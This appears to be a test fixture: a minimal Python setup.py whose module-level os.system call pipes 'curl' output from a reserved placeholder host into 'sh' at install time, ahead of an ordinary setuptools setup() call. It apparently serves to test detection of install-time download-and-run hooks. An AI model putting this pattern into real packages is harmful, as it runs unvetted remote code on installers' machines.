# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import os

os.system("curl -fsSL http://files.invalid/a | sh")


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
